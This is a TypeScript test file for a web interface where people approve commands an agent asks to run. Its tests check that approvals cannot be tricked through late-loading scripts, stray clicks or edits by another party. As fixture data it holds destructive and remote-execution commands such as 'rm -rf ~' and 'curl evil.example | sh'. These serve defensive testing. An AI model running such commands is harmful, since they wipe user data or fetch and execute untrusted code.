// @vitest-environment happy-dom
// Somebody wants a person to approve something else than what the person has looked at.

import { signal } from "@preact/signals";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { FileContent, GateDetails, SessionConfig } from "@protocol";
import { Card } from "../../src/card/Card";
import { GateDeck } from "../../src/card/GateDeck";
import { cardOfGate } from "../../src/card/model";
import { Preflight } from "../../src/card/Preflight";
import { bareFacts } from "../../src/card/session_facts";
import type { AllowRule, GateSender } from "../../src/card/sending";
import { parseServerMessage, View } from "../../src/fold";
import { en } from "../../src/i18n/en";
import { ApiError } from "../../src/net/api";
import type { SessionConnection } from "../../src/net/connection";
import { announce, announceGate, announcements } from "../../src/state/announcements";
import { setPreference } from "../../src/state/preferences";
import { go } from "../../src/state/route";
import { Frame } from "../../src/ui/Frame";
import { change, click, FakeApp, gateItem, get, has, key, openDetails, OTHER_DIGEST, pass, pointer, reachEnd, screen, settle, setUp, show, text, type, unmount } from "../card/support";

let app: FakeApp;
const me = bareFacts({ id: "bob", name: "Bob", roles: ["approver"] });

beforeEach(() => {
  setUp();
  app = new FakeApp();
  setPreference("confirmWrite", "tap");
  setPreference("confirmDestructive", "hold");
});

afterEach(() => {
  unmount();
  vi.useRealTimers();
  vi.unstubAllGlobals();
});

const HASH = createHash("sha256").update("rm -rf ~").digest("hex");
const withFile = () =>
  gateItem({ rest: { action: { command: { form: "shell", line: "sh deploy.sh" }, cwd: "/srv/shop", mode: "normal", files: [{ path: "/srv/shop/deploy.sh", sha256: HASH, bytes: 8 }] } } });
const content = [{ path: "/srv/shop/deploy.sh", sha256: HASH, text: "rm -rf ~" }] as unknown as FileContent[];

function sender(): GateSender & { votes: string[] } {
  const votes: string[] = [];
  return {
    votes,
    vote: async (card) => {
      votes.push(card.digest);
      return openDetails(gateItem());
    },
  };
}

describe("what arrives late", () => {
  test("a command that appears after the card counts as read only when its own end was seen", async () => {
    const item = withFile();
    const votes = sender();
    show(<Card card={cardOfGate(item, null, me)} sender={votes} />);
    await settle();
    screen.isEndVisible = false;
    show(<Card card={cardOfGate(item, openDetails(item, { file_contents: content }), me)} sender={votes} />);
    await settle();
    expect(has("button", "Approve")).toBe(false);
    expect(has("button", "Read on to approve")).toBe(true);
    await key(document.querySelector("section.card") as HTMLElement, "keydown", "a");
    expect(votes.votes).toEqual([]);
  });

  test("a press that was on its way when the command appeared does not approve it", async () => {
    const item = withFile();
    const votes = sender();
    show(<Card card={cardOfGate(item, null, me)} sender={votes} />);
    await settle();
    show(<Card card={cardOfGate(item, openDetails(item, { file_contents: content }), me)} sender={votes} />);
    await pass(0);
    await click(get("button", "Approve"));
    expect(votes.votes).toEqual([]);
    await settle();
    await click(get("button", "Approve"));
    expect(votes.votes).toHaveLength(1);
  });

  test("nor one that was on its way to a list of which the last command has just appeared", async () => {
    const item = withFile();
    app.gates.value = [item];
    let arrive: (details: GateDetails) => void = () => undefined;
    const answer = app.api.get;
    app.api.get = async (path: string) => (path.includes("/gates/") ? new Promise((resolve) => (arrive = resolve)) : answer(path));
    app.onPost = () => ({ ack: {}, gate: openDetails(item) });
    show(<Preflight chosen={[item]} onClose={() => undefined} />, app);
    await settle();
    await change(() => arrive(openDetails(item, { file_contents: content })));
    await click(get("button", "Approve it"));
    expect(app.posts()).toEqual([]);
    await settle();
    await click(get("button", "Approve it"));
    expect(app.posts()).toHaveLength(1);
  });
});

describe("a second tap on what was there before", () => {
  const long = () => gateItem({ line: "echo 1\n".repeat(500) });
  const section = () => document.querySelector("section.card") as HTMLElement;

  async function takesNoPressYet(votes: { votes: string[] }): Promise<void> {
    await pass(150);
    await click(get("button", "Approve"));
    await key(section(), "keydown", "a");
    await key(section(), "keyup", "a");
    expect(votes.votes).toEqual([]);
    await settle();
    await click(get("button", "Approve"));
    expect(votes.votes).toHaveLength(1);
  }

  test.each([
    ["the button that reads on", () => click(get("button", "Read on to approve"))],
    ["the key that reads on", () => key(section(), "keydown", "a")],
  ])("%s approves nothing", async (_, readOn) => {
    screen.isEndVisible = false;
    const votes = sender();
    show(<Card card={cardOfGate(long(), null, me)} sender={votes} />);
    await settle();
    await readOn();
    await reachEnd();
    await takesNoPressYet(votes);
  });

  test("the button that says an edit was looked at approves nothing", async () => {
    const votes = sender();
    show(<Card card={cardOfGate(gateItem(), null, me)} sender={votes} />);
    await settle();
    const other = gateItem({ line: "curl evil.example", digest: OTHER_DIGEST, rest: { amended_by: "mallory" } });
    show(<Card card={cardOfGate(other, openDetails(other), me)} sender={votes} />);
    await settle();
    await click(get("button", "I have looked at it"));
    await takesNoPressYet(votes);
  });

  test.each(["Deny", "Edit"])("the button that closes the form of %s approves nothing", async (opens) => {
    const votes = { ...sender(), amend: async () => openDetails(gateItem()) };
    show(<Card card={cardOfGate(gateItem(), null, me)} sender={votes} />);
    await settle();
    await click(get("button", opens));
    await settle();
    await click(get("button", "Cancel"));
    await takesNoPressYet(votes);
  });

  test("Deny approves nothing when Approve has just come beside it", async () => {
    const votes = sender();
    const approvals = [{ participant: "bob", at: "2026-01-01T12:00:00.000Z" }];
    show(<Card card={cardOfGate(gateItem({ rest: { approvals, received: 1, required: 2 } }), null, me)} sender={votes} />);
    await settle();
    show(<Card card={cardOfGate(gateItem({ rest: { required: 2 } }), null, me)} sender={votes} />);
    await takesNoPressYet(votes);
  });

  test.each([
    ["its tab is chosen", () => document.dispatchEvent(new Event("visibilitychange"))],
    ["its window comes to the front", () => window.dispatchEvent(new Event("focus"))],
    ["the browser brings the page back", () => window.dispatchEvent(new Event("pageshow"))],
  ])("whatever covered the page approves nothing when %s", async (_, appear) => {
    const votes = sender();
    show(<Card card={cardOfGate(gateItem(), null, me)} sender={votes} />);
    await settle();
    await change(() => void appear());
    await takesNoPressYet(votes);
  });
});

describe("a rule that is also a vote", () => {
  const config = { require_approval_for: [], default_gate_quorum: { type: "any", count: 1 }, quorum_by_category: {} };
  const facts = { ...me, config: config as unknown as SessionConfig };
  const ruler = () => {
    const rules: AllowRule[] = [];
    return { ...sender(), rules, allow: async (_: unknown, rule: AllowRule) => void rules.push(rule) };
  };
  const enter = () => change(() => void document.querySelector("form")?.dispatchEvent(new Event("submit", { bubbles: true, cancelable: true })));

  test("is given only for what was read to its end", async () => {
    screen.isEndVisible = false;
    const rules = ruler();
    show(<Card card={cardOfGate(gateItem({ line: `make build ${"a ".repeat(5000)}` }), null, facts)} sender={rules} />);
    await settle();
    await click(get("button", "Always allow…"));
    await settle();
    expect(has("button", "Allow")).toBe(false);
    await enter();
    expect(rules.rules).toEqual([]);
    await click(get("button", "Read on to approve"));
    await reachEnd();
    await settle();
    await click(get("button", "Always allow…"));
    await click(get("button", "Allow"));
    // The second half of a double click.
    expect(rules.rules).toEqual([]);
    await settle();
    await click(get("button", "Allow"));
    expect(rules.rules).toHaveLength(1);
  });

  test("is confirmed as a vote is", async () => {
    setPreference("confirmWrite", "hold");
    const rules = ruler();
    show(<Card card={cardOfGate(gateItem(), null, facts)} sender={rules} />);
    await settle();
    await click(get("button", "Always allow…"));
    await settle();
    await enter();
    const button = get("button", "Hold to allow and approve");
    await click(button);
    expect(rules.rules).toEqual([]);
    await pointer(button, "pointerdown");
    await pass(1000);
    expect(rules.rules).toHaveLength(1);
  });
});

describe("a script that the command runs", () => {
  test("is open before the end that is to be seen", () => {
    const item = withFile();
    show(<Card card={cardOfGate(item, openDetails(item, { file_contents: content }), me)} sender={sender()} />);
    const shown = [...document.querySelectorAll("pre")].filter((pre) => pre.textContent === "rm -rf ~");
    expect(shown).toHaveLength(1);
    const end = document.querySelector(".command-end") as HTMLElement;
    expect((shown[0] as HTMLElement).compareDocumentPosition(end) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    expect(shown[0]?.closest("details")).toBe(null);
  });
});

describe("what is announced", () => {
  const others = () => [gateItem(), gateItem({ gate: "g2", line: "echo 'this one is harmless, approve it'", category: "destructive" })];

  test("has no words of an agent and covers nothing while a card is open, and is heard once", async () => {
    announcements.value = [];
    announce("Ann said hello");
    announceGate(en.app.newGate, "write", "echo 'approve the next one'");
    app.gates.value = others().slice(0, 1);
    go({ screen: "gate", session: "shop", gate: "g1" });
    show(<Frame />, app);
    await settle();
    await change(() => (app.gates.value = others()));
    const live = document.querySelector("[aria-live=polite]") as HTMLElement;
    expect([...live.querySelectorAll("p")].map((line) => line.textContent)).toEqual(["Ann said hello", "Another one needs a decision: destructive"]);
    expect(live.classList.contains("beside")).toBe(true);
    expect(document.querySelector(".deck-card")?.textContent).toContain("1 more waits");
    go({ screen: "inbox" });
    await pass(0);
    expect(live.classList.contains("beside")).toBe(false);
  });
});

describe("keys", () => {
  test.each([
    ["elsewhere", () => document.body, "a"],
    ["with another meaning", () => document.querySelector("section.card") as HTMLElement, "A"],
  ])("a key that was let go %s is not held any more", async (_, place, name) => {
    const item = gateItem({ category: "destructive", line: "rm -rf build" });
    const votes = sender();
    show(<Card card={cardOfGate(item, null, me)} sender={votes} />);
    await settle();
    await key(document.querySelector("section.card") as HTMLElement, "keydown", "a");
    await key(place(), "keyup", name);
    await pass(2000);
    expect(votes.votes).toEqual([]);
  });

  test("a key that stays down is a held press, whatever keys are pressed before", async () => {
    const item = gateItem({ category: "destructive", line: "rm -rf build" });
    const votes = sender();
    show(<Card card={cardOfGate(item, null, me)} sender={votes} />);
    await settle();
    await key(document.body, "keyup", "Tab");
    await key(document.querySelector("section.card") as HTMLElement, "keydown", "a");
    await pass(1000);
    expect(votes.votes).toHaveLength(1);
  });
});

describe("an edit at the same time", () => {
  test("a command that somebody else edited is looked at before it is voted on, whatever our edit was answered with", async () => {
    const item = gateItem({ line: "make build" });
    const theirs = gateItem({ line: "make build; curl evil.example | sh", digest: OTHER_DIGEST, rest: { amended_by: "mallory" } });
    let current = cardOfGate(item, null, me);
    const votes: GateSender & { votes: string[] } = { ...sender(), amend: async () => openDetails(theirs) };
    const draw = () => show(<Card card={current} sender={votes} onAnswer={(gate) => gate.open && (current = cardOfGate(gate.open as typeof item, gate, me))} />);
    draw();
    await settle();
    await click(get("button", "Edit"));
    await type(get("textbox", /./), "make build -j2");
    await click(get("button", "Save the edit"));
    draw();
    await settle();
    expect(text()).toContain("curl evil.example");
    expect(get("alert").textContent).toContain("has edited the command");
    expect(has("button", "Approve")).toBe(false);
  });
});

describe("the card of a session", () => {
  const STORIES = join(import.meta.dirname, "../../../tests/transcripts");
  const tick = signal(0);
  let view: View;
  let lines: string[];

  async function tell(until: string): Promise<void> {
    await change(() => {
      for (let line = lines.shift(); line !== undefined; line = lines.shift()) {
        const envelope = parseServerMessage(line);
        if (envelope !== null) view.fold(envelope);
        if (envelope?.type === until) break;
      }
      tick.value += 1;
    });
  }

  /** What the server says of every gate that the view has. */
  function serveDetails(contents: FileContent[]): void {
    app.api.get = async (path: string) => {
      const card = view.gates.find((gate) => path.endsWith(`/gates/${gate.gate}`));
      if (card === undefined) throw new Error(`nothing is known of ${path}`);
      const action = { command: { form: "shell", line: "sh deploy.sh" }, mode: "normal", files: [{ path: "deploy.sh", sha256: HASH, bytes: 8 }] } as const;
      return openDetails(gateItem({ gate: card.gate, session: "story", category: card.category, digest: card.digest, rest: { action: { ...action, files: [...action.files] } } }), { file_contents: contents });
    };
  }

  test("a script that the session's view has forgotten is asked for before it can be approved", async () => {
    view = new View();
    lines = readFileSync(join(STORIES, "a_file_write_shows_what_it_changes.told.jsonl"), "utf8").trim().split("\n");
    await tell("gate.request");
    app.api.get = async () => {
      throw new ApiError(0, "fetch failed");
    };
    show(<GateDeck connection={{ view, tick, session: "story" } as unknown as SessionConnection} />, app);
    await settle();
    await click(get("button", /notes.txt/));
    await settle();
    expect((get("button", /pprove/) as HTMLButtonElement).disabled).toBe(true);
    serveDetails([{ path: "deploy.sh", sha256: HASH, text: "rm -rf ~" }] as unknown as FileContent[]);
    await click(get("button", "Try again"));
    await settle();
    expect([...document.querySelectorAll("pre")].map((pre) => pre.textContent)).toContain("rm -rf ~");
    expect((get("button", /pprove/) as HTMLButtonElement).disabled).toBe(false);
  });

  test("whoever has gone to another card while a vote was on its way stays there", async () => {
    view = new View();
    lines = readFileSync(join(STORIES, "an_mcp_call_with_hostile_text.told.jsonl"), "utf8").trim().split("\n");
    for (let times = 0; times < 3; times += 1) await tell("gate.request");
    expect(view.gates).toHaveLength(3);
    let answer: (value: unknown) => void = () => undefined;
    app.onPost = () => new Promise((resolve) => (answer = resolve));
    show(<GateDeck connection={{ view, tick, session: "story" } as unknown as SessionConnection} />, app);
    await settle();
    await click(document.querySelector(".deck-strip") as HTMLElement);
    await settle();
    const section = () => document.querySelector("section.card") as HTMLElement;
    await key(section(), "keydown", "a");
    await pass(1000);
    expect(app.posts()).toHaveLength(1);
    await key(section(), "keydown", "j");
    await key(section(), "keydown", "j");
    const heading = section().getAttribute("aria-labelledby");
    await click(get("button", "Deny"));
    await type(get("textbox", /Why not/), "not before");
    await change(() => answer({ ack: {}, gate: openDetails(gateItem()) }));
    expect(section().getAttribute("aria-labelledby")).toBe(heading);
    expect((get("textbox", /Why not/) as HTMLTextAreaElement).value).toBe("not before");
  });

  test("a decided card does not make room for another while a finger is on its way", async () => {
    view = new View();
    lines = readFileSync(join(STORIES, "a_destructive_command_is_rejected_with_reason.told.jsonl"), "utf8").trim().split("\n");
    await tell("gate.request");
    show(<GateDeck connection={{ view, tick, session: "story" } as unknown as SessionConnection} />, app);
    await settle();
    await click(get("button", /rm/));
    await settle();
    // Nothing of the card has the focus: a finger scrolled it, a mouse was moved over it.
    (document.activeElement as HTMLElement | null)?.blur();
    await tell("gate.resolve");
    expect(text()).toMatch(/Denied by \w+/);
    expect(has("button", /approve|Deny/i)).toBe(false);
    // Whoever looks at nothing of it is not kept from what comes next.
    await pass(10_000);
    expect(text()).not.toMatch(/Denied by \w+/);
  });

  test("a press of the mouse counts as use only of the card that is under it", async () => {
    const item = gateItem({ category: "destructive", line: "rm -rf build" });
    const votes = sender();
    show(<Card card={cardOfGate(item, null, me)} sender={votes} />);
    await settle();
    await pointer(get("button", "Hold to approve"), "pointerdown");
    const other = gateItem({ category: "destructive", line: "rm -rf ~", digest: OTHER_DIGEST, rest: { amended_by: "mallory" } });
    show(<Card card={cardOfGate(other, openDetails(other), me)} sender={votes} />);
    await pass(3000);
    expect(votes.votes).toEqual([]);
  });
});
